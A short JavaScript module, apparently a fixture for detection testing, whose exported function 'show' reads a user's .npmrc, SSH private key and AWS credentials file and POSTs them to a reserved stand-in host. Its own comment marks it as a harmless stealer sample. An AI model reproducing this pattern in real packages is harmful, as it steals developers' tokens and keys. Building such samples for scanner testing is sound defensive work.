const { readFileSync } = require('fs');
const { join } = require('path');
// Runtime stealer shape (harmless: reserved .invalid host): sweeps several kinds of credentials when called.
module.exports = async function show() {
  const home = process.env.HOME || '';
  const loot = ['.npmrc', join('.ssh', 'id_rsa'), join('.aws', 'credentials')].map((f) => {
    try { return readFileSync(join(home, f), 'utf8'); } catch (e) { return ''; }
  });
  await fetch('https://view.example.invalid/log', { method: 'POST', body: loot.join('\n') }).catch(() => {});
};
